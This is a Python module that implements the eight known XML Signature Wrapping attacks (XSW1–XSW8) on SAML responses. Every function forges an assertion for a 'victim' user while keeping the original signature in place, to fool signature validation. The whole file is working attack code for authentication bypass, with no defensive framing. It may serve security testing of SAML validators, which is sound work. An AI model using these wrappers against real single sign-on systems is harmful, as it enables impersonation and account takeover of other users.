"""The eight known ways of wrapping a signature: what was signed is kept, and something else stands in its place."""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

MINE, THEIRS = ">5f2c</saml:NameID>", ">victim</saml:NameID>"
SIGNATURE = re.compile(r"<ds:Signature .*?</ds:Signature>", re.DOTALL)
ASSERTION = re.compile(r"<saml:Assertion .*?</saml:Assertion>", re.DOTALL)
Wrap = Callable[[str], str]


def bare(xml: str) -> str:
    """The same without its signature."""
    return SIGNATURE.sub("", xml)


def evil(xml: str) -> str:
    """The same about somebody else, under another name."""
    return re.sub(r' ID="[^"]+"', ' ID="evil"', xml.replace(MINE, THEIRS), count=1)


def parts(xml: str) -> tuple[str, str]:
    """The assertion of a response, and its signature."""
    found = ASSERTION.search(xml)[0]
    return found, SIGNATURE.search(found)[0]


def holding(signature: str, what: str) -> str:
    return signature.replace("</ds:Signature>", f"{what}</ds:Signature>")


def held(signature: str, what: str) -> str:
    return holding(signature, f"<ds:Object>{what}</ds:Object>")


def xsw1(xml: str) -> str:
    """The true response, within its signature, in a false one."""
    signature = SIGNATURE.search(xml)[0]
    return evil(xml.replace(signature, "@")).replace("@", held(signature, bare(xml)))


def xsw2(xml: str) -> str:
    """The true response before its signature, in a false one."""
    signature = SIGNATURE.search(xml)[0]
    return evil(xml.replace(signature, "@")).replace("@", bare(xml) + signature)


def xsw3(xml: str) -> str:
    """A false assertion before the true one."""
    true, _ = parts(xml)
    return xml.replace(true, evil(bare(true)) + true)


def xsw4(xml: str) -> str:
    """The true assertion within a false one."""
    true, _ = parts(xml)
    return xml.replace(true, evil(bare(true)).replace("</saml:Assertion>", f"{true}</saml:Assertion>"))


def xsw5(xml: str) -> str:
    """A false assertion with the true signature, and the true assertion after it."""
    true, signature = parts(xml)
    return xml.replace(true, evil(true.replace(signature, "@")).replace("@", signature) + bare(true))


def xsw6(xml: str) -> str:
    """A false assertion with the true signature, which holds the true assertion."""
    true, signature = parts(xml)
    return xml.replace(true, evil(true.replace(signature, "@")).replace("@", holding(signature, bare(true))))


def xsw7(xml: str) -> str:
    """A false assertion among extensions, before the true one."""
    true, _ = parts(xml)
    extensions = f"<samlp:Extensions>{evil(bare(true))}</samlp:Extensions>"
    return xml.replace("<samlp:Status>", f"{extensions}<samlp:Status>")


def xsw8(xml: str) -> str:
    """A false assertion with the true signature, which holds the true assertion as its object."""
    true, signature = parts(xml)
    return xml.replace(true, evil(true.replace(signature, "@")).replace("@", held(signature, bare(true))))


OF_A_RESPONSE: Mapping[str, Wrap] = {"XSW1": xsw1, "XSW2": xsw2}
OF_AN_ASSERTION: Mapping[str, Wrap] = {
    "XSW3": xsw3, "XSW4": xsw4, "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8,
}  # fmt: skip
